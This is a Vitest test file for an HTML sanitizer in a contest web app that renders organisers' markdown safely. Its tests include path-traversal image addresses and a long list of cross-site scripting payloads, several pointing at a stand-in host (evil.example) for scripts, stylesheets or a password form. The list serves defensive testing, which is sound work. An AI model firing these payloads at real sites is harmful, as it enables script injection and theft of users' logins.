import { describe, expect, test } from 'vitest';
import { safeHtml } from './safe-html.ts';

describe('formatted text', () => {
  test.each([
    ['# Rules', '<h1 id="user-content-rules">Rules</h1>\n'],
    ['**bold** and _soft_', '<p><strong>bold</strong> and <em>soft</em></p>\n'],
    ['- one\n- two', '<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n'],
    ['3. three\n4. four', '<ol start="3">\n<li>three</li>\n<li>four</li>\n</ol>\n'],
    ['> said', '<blockquote>\n<p>said</p>\n</blockquote>\n'],
    ['<h2>As HTML</h2>', '<h2 id="user-content-as-html">As HTML</h2>'],
    ['<p>One<br />two</p>', '<p>One<br />two</p>'],
    ['a & b < c', '<p>a &amp; b &lt; c</p>\n'],
    ['naïve 漢字 🎉', '<p>naïve 漢字 🎉</p>\n'],
  ])('%s is rendered as such', (text, html) => {
    expect(safeHtml(text)).toBe(html);
  });

  test('links and tables are kept, and links get no access to this page', () => {
    expect(safeHtml('[map](https://example.org/map "The map")')).toBe(
      '<p><a href="https://example.org/map" title="The map" rel="noopener noreferrer">map</a></p>\n',
    );
    expect(safeHtml('|a|b|\n|-|-|\n|1|2|')).toContain('<td>1</td>');
    expect(safeHtml('<a href="mailto:help@example.org">help</a>')).toContain('mailto:');
  });

  test('this contest’s pictures are kept, and others removed', () => {
    const ours = '/contests/swag-and-seek/api/assets/logo.png';
    expect(safeHtml(`![Logo](${ours})`)).toContain(`<img src="${ours}" alt="Logo" />`);
    expect(safeHtml('<img src="data:image/png;base64,AAAA">')).toContain('data:image/png');
    for (const src of [
      'https://evil.example/x.png',
      '//evil.example/x.png',
      'data:image/svg+xml;base64,AAAA',
      '/contests/swag-and-seek/api/auth/logout',
      `${ours}/../../auth/logout`,
      '/contests/swag-and-seek/api/assets/%2E./%2e%2e/auth/logout',
      '/contests/swag-and-seek/api/assets/..\\auth\\logout',
      'https://evil.example?/contests/swag-and-seek/api/assets/logo.png',
      'javascript:alert(1)',
    ]) {
      expect(safeHtml(`<img src="${src}">`), src).not.toContain('<img');
    }
  });
});

test('a picture’s address may have any host, as the Assets tab copies it', () => {
  const ours = '/contests/swag-and-seek/api/assets/my%20logo.svg';
  for (const host of ['http://192.168.1.20:3000', 'https://contest.example']) {
    expect(safeHtml(`![Logo](${host}${ours})`)).toBe(`<p><img src="${ours}" alt="Logo" /></p>\n`);
  }
  expect(safeHtml(`<img src="${ours}?v=1">`)).toBe(`<img src="${ours}?v=1" alt="" />`);
});

test.each([
  ['quotations', '>'.repeat(15_000)],
  ['quotations with spaces', '> '.repeat(7_500)],
  ['lists', '1. '.repeat(5_000)],
  ['elements', '<blockquote>'.repeat(1_250)],
  ['emphasis', '_a'.repeat(7_500)],
])('thousands of nested %s still render, in at most forty levels', (_what, text) => {
  expect(safeHtml(text).match(/<blockquote>|<ol>/g)?.length ?? 0).toBeLessThanOrEqual(40);
});

describe('words in angle brackets are shown as they were typed', () => {
  test.each([
    'Write <your name> on the sheet',
    'Write <name> and <address> and <time>',
    'Hold up the <script> sign',
    'the <textarea>, the <title> and the <xmp>',
    'a <!-- without an end',
    'a <? and <! and </ and < and <3',
    'the <gold>best</gold> ones',
    'Enter <code> at the fan table',
    'Write <table> number here',
    'the <h1> sign, the <pre> and the <blockquote>',
    'The <del> key and <sub>, <b> or <i>, <s> and <a>',
    'Follow <dd> and <dt>, <li> and <td>',
    'show <html> tag, <body> and <head>',
    'Write <img> here',
    'Use </code> end and </b> and </table>',
    'Write <Name:Noor> here, <at:noon>',
    '[Saturday]: 10:00-12:00',
    '[Room]: upstairs',
    '[Saturday]: 10:00-12:00, see [Saturday]',
  ])('%s', (text) => {
    const shown = safeHtml(text)
      .replaceAll(/<\/?p>/g, '')
      .trim();
    expect(shown.replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&amp;', '&')).toBe(
      text,
    );
  });

  test.each(['script', 'textarea', 'plaintext', 'svg', 'pen'])(
    'nothing after the word <%s> is lost, wherever it stands',
    (name) => {
      const rest = '\n\n## Safety\n\nAsk **before** you photograph.';
      for (const line of [`Hold up the <${name}> sign.`, `<${name}> is a sign.`, `<${name}>`]) {
        const html = safeHtml(line + rest);
        expect(html, line).toContain(`&lt;${name}`);
        expect(html, line).toContain('<h2 id="user-content-safety">Safety</h2>');
        expect(html, line).toContain('<strong>before</strong>');
      }
    },
  );

  test.each([
    [
      'an <h1> sign\n\n## Next\n\n[x](#next)',
      ['<h2 id="user-content-next">', 'href="#user-content-next"'],
    ],
    ['<pre>\n\n## Safety', ['&lt;pre&gt;', '<h2 id="user-content-safety">']],
    ['![Map of the hall](https://maps.example/hall.png)', ['<em>Map of the hall</em>']],
    ['[Text us](sms:+15550100)', ['href="sms:+15550100"']],
    ['See [the map].\n\n[the map]: https://maps.example/', ['href="https://maps.example/"']],
    [
      'Mail <help@example.org> or <https://example.org>',
      ['mailto:help@example.org', 'href="https://example.org"'],
    ],
    ['<ul><li>One<li>Two</ul>', ['<li>One</li><li>Two</li>']],
    ['<table><tr><td>1<td>2</table>', ['<td>1</td><td>2</td>']],
    ['<b>Bring\n\nwater</b>', ['<b>Bring']],
    ['Press `<b>` and <b>Go</b>', ['<code>&lt;b&gt;</code>', '<b>Go</b>']],
  ])('and what follows them or is markup stays what it is: %s', (text, parts) => {
    for (const part of parts) expect(safeHtml(text)).toContain(part);
  });

  test('but markup that a word processor adds is not', () => {
    const word =
      '<style>\n<!-- p.MsoNormal {margin:0cm} -->\n</style>\n' +
      '<div class="WordSection1"><p class=MsoNormal><span lang=EN-US style=\'color:red\'>Ask first<o:p></o:p></span></p></div>';
    expect(safeHtml(word).trim()).toBe('<p>Ask first</p>');
    expect(safeHtml('<!-- a note -->\n\nAsk <font color="red">first</font>').trim()).toBe(
      '<p>Ask first</p>',
    );
  });

  test('and the scripts of a pasted page are left out', () => {
    expect(safeHtml('<script>x()</script>\n\nAsk <b>first</b>').trim()).toBe(
      '<p>Ask <b>first</b></p>',
    );
  });
});

describe('links', () => {
  test('lead to a heading by its text, and each heading has its own id', () => {
    const html = safeHtml('[to prizes](#Prizes)\n\n## Prizes\n\n## *Prizes*\n\n## Über uns?');
    expect(html).toContain('<a href="#user-content-prizes"');
    expect(html).toContain('<h2 id="user-content-prizes">Prizes</h2>');
    expect(html).toContain('<h2 id="user-content-prizes-1"><em>Prizes</em></h2>');
    expect(html).toContain('<h2 id="user-content-über-uns">');
    expect(safeHtml('[x](#%C3%BCber-uns)')).toContain('href="#user-content-%C3%BCber-uns"');
  });

  test('have ids that cannot clash with the page’s own, whatever an organiser chose', () => {
    for (const id of ['app', '__proto__', 'location', '"><script>x()</script>']) {
      for (const found of safeHtml(`<h2 id='${id}'>y</h2>`).matchAll(/ id="([^"]*)"/g)) {
        expect(found[1]).toMatch(/^user-content-[\p{L}\p{N}_-]+$/u);
      }
    }
  });
});

const HOSTILE = [
  '<script>x()</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>x()</scr</script>ipt>',
  '<img src=x onerror=x()>',
  '<svg onload=x()>',
  '<svg><animate onbegin=x() attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=x()>#x"></use></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=x()></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:x()"></iframe>',
  '<iframe srcdoc="<script>x()</script>"></iframe>',
  '<object data="javascript:x()"></object>',
  '<a href="javascript:x()">y</a>',
  '<a href="JaVaScRiPt:x()">y</a>',
  '<a href="java\tscript:x()">y</a>',
  '<a href=" &#14; javascript:x()">y</a>',
  '<a href="&#106;avascript:x()">y</a>',
  '<a href="vbscript:x()">y</a>',
  '<a href="data:text/html,<script>x()</script>">y</a>',
  '<a href="//evil.example">y</a>',
  '<a href=x onclick=x()>y</a>',
  '<a style="position:fixed;inset:0" href=x>y</a>',
  '[y](javascript:x())',
  '![y](javascript:x())',
  '![y](https://evil.example/pixel.gif)',
  '<javascript:x()>',
  '[y]: javascript:x()\n\n[y]',
  '<form action="https://evil.example"><input name=password></form>',
  '<button formaction="javascript:x()">y</button>',
  '<input autofocus onfocus=x()>',
  '<details open ontoggle=x()>y</details>',
  '<video><source onerror=x()></video>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(https://evil.example)">y</p>',
  '<p class="dashboard" id="app">y</p>',
  '<noscript><p title="</noscript><img src=x onerror=x()>"></noscript>',
  '<!--><img src=x onerror=x()>-->',
  '<![CDATA[><script>x()</script>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">x()</x:script>',
  '<p title="<img src=x onerror=x()>">y</p>',
  '<xmp><p title="</xmp><img src=x onerror=x()>">',
  '<plaintext><script>x()</script>',
  '`<script>x()</script>` <script>x()</script>',
  '<table background="javascript:x()"><td background="javascript:x()">y</table>',
];

/** The tags with their attributes. */
const tagsIn = (html: string): string[] => html.match(/<[^>]*>/g) ?? [];

test.each(HOSTILE)('%s is made harmless', (text) => {
  for (const tag of tagsIn(safeHtml(text))) {
    expect(tag).toMatch(
      /^<\/?(h[1-4]|p|br|hr|blockquote|pre|code|ul|ol|li|table|thead|tbody|tr|th|td|strong|b|em|i|u|del|s|sup|sub|a|img)( (href|rel|title|src|alt|start|id)="[^"]*")* ?\/?>$/,
    );
    expect(tag).not.toMatch(/(href|src)="\s*(javascript|vbscript|data:text|blob|\/\/)/i);
    expect(tag).not.toMatch(/src="(?!\/contests\/swag-and-seek\/api\/assets\/|data:image\/)/);
  }
});
